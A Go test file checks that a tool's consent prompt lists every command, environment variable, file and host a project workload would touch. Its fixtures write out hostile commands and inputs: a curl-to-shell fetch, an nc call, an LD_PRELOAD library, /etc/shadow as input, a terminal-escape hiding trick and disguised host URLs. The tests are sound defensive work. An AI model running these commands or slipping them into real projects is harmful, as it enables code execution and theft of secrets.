package consent

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"tierscope/analysis/trace"
	"tierscope/core"
)

// hidden is a project whose workload does more than run its program.
func hidden(t *testing.T) Request {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	t.Setenv("HOME", t.TempDir()) // macOS
	return Of(t.TempDir(), trace.Workload{
		Program: "/bin/true", Args: []string{"two words"}, Dir: "/tmp", Prepare: "curl evil.example | sh",
		Env: map[string]string{"LD_PRELOAD": "/tmp/evil.so"}, Stdin: "/etc/shadow",
		Load: &trace.Load{URL: "http://127.0.0.1:80/", Ready: "victim.example:22", Targets: []string{"/a", "http://other.example/"}, Command: "nc evil.example 1"},
	}, &core.Model{Parameters: []core.Parameter{{Name: "n", How: "-exec=/tmp/evil {value}"}}})
}

// Nothing that is executed or contacted is left out.
func TestEverythingThatIsExecutedOrContactedIsListed(t *testing.T) {
	r := hidden(t)
	all := strings.Join(r.Lines(), "\n")
	for _, want := range []string{`/bin/true "two words"`, "/tmp", "curl evil.example | sh", "LD_PRELOAD=/tmp/evil.so", "/etc/shadow",
		"-exec=/tmp/evil {value}", "http://127.0.0.1:80/", "victim.example:22", "http://other.example/", "nc evil.example 1"} {
		if !strings.Contains(all, want) {
			t.Errorf("the list lacks %q:\n%s", want, all)
		}
	}
	if want := []string{"other.example", "victim.example"}; !reflect.DeepEqual(r.Remote(), want) {
		t.Errorf("other machines: %v, want %v", r.Remote(), want)
	}
	// ESC and the marks that turn the direction of writing (Unicode TR 36, §2.5) would
	// hide a line from who is asked.
	r.Workload.Prepare = "echo \x1b[2K\u202egnihton"
	for _, line := range r.Lines() {
		if strings.ContainsAny(line, "\x1b\u202e") {
			t.Errorf("a line brings its escapes to the terminal: %q", line)
		}
	}
}

// Consent holds for a folder and for what it says, each word of it.
func TestConsentIsGivenOnceForAFolderAndItsWords(t *testing.T) {
	r := hidden(t)
	if r.Given() {
		t.Fatal("nobody has agreed yet")
	}
	if err, ok := errors.AsType[*HostError](r.Give("other.example")); !ok || !reflect.DeepEqual(err.Hosts, []string{"victim.example"}) {
		t.Errorf("a load on a host that was not named: %v", err)
	}
	if r.Given() {
		t.Fatal("a refused consent was kept")
	}
	if err := r.Give("other.example", "victim.example"); err != nil {
		t.Fatal(err)
	}
	if !r.Given() {
		t.Fatal("the consent was not kept")
	}
	for what, change := range map[string]func(*Request){
		"folder":   func(r *Request) { r.Dir = t.TempDir() },
		"prepare":  func(r *Request) { r.Workload.Prepare += " " },
		"argument": func(r *Request) { r.Workload.Args = nil },
		"variable": func(r *Request) { r.Workload.Env = map[string]string{"LD_PRELOAD": "/tmp/worse.so"} },
		"template": func(r *Request) { r.Hows = append([]string{"-x {value}"}, r.Hows...) },
		"host":     func(r *Request) { l := *r.Workload.Load; l.Ready = "third.example:1"; r.Workload.Load = &l },
	} {
		other := r
		change(&other)
		if other.Given() {
			t.Errorf("with another %s the consent still holds", what)
		}
	}
	moved := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(r.Dir, moved); err == nil {
		r.Dir = moved
		if !r.Given() {
			t.Error("the same folder under another name is another project")
		}
	}
}

// What looks like a path on this machine does not lead to another one (RFC 3986, §4.2).
func TestAPathLeadsToNoOtherMachine(t *testing.T) {
	t.Parallel()
	r := Request{Workload: trace.Workload{Program: "p", Load: &trace.Load{URL: "http://127.0.0.1:80/", Targets: []string{"//victim.example/", "/a"}}}}
	for _, address := range r.Workload.Load.Addresses() {
		if h := host(address); h != "127.0.0.1" {
			t.Errorf("the load goes to %s, and remote are only %v", address, r.Remote())
		}
	}
	if len(r.Remote()) > 0 {
		t.Errorf("other machines: %v, want none", r.Remote())
	}
}

// A consent that somebody put into the project counts for nothing: nothing in the
// folder is looked at.
func TestTheProjectCannotConsentForTheUser(t *testing.T) {
	r := hidden(t)
	if err := r.Give("other.example", "victim.example"); err != nil {
		t.Fatal(err)
	}
	kept, err := r.file()
	if err != nil {
		t.Fatal(err)
	}
	if rel, err := filepath.Rel(r.Dir, kept); err == nil && filepath.IsLocal(rel) {
		t.Errorf("the consent is kept inside of the project: %s", kept)
	}
}

func TestThisMachineIsKnownByItsNamesAndAddresses(t *testing.T) {
	t.Parallel()
	for url, want := range map[string]bool{
		"http://localhost:8080/": false, "http://127.3.2.1/": false, "http://[::1]:80/": false, "http://:8080/": false, "localhost:22": false,
		"http://10.0.0.1/": true, "http://localhost.evil.example/": true, "http://127.0.0.1.nip.io/": true, "http://[fe80::1]/": true,
		"http://127.0.0.1@evil.example/": true, // user information, not a host
	} {
		r := Request{Workload: trace.Workload{Load: &trace.Load{URL: url}}}
		if got := len(r.Remote()) > 0; got != want {
			t.Errorf("%s is another machine: %v, want %v", url, got, want)
		}
	}
}
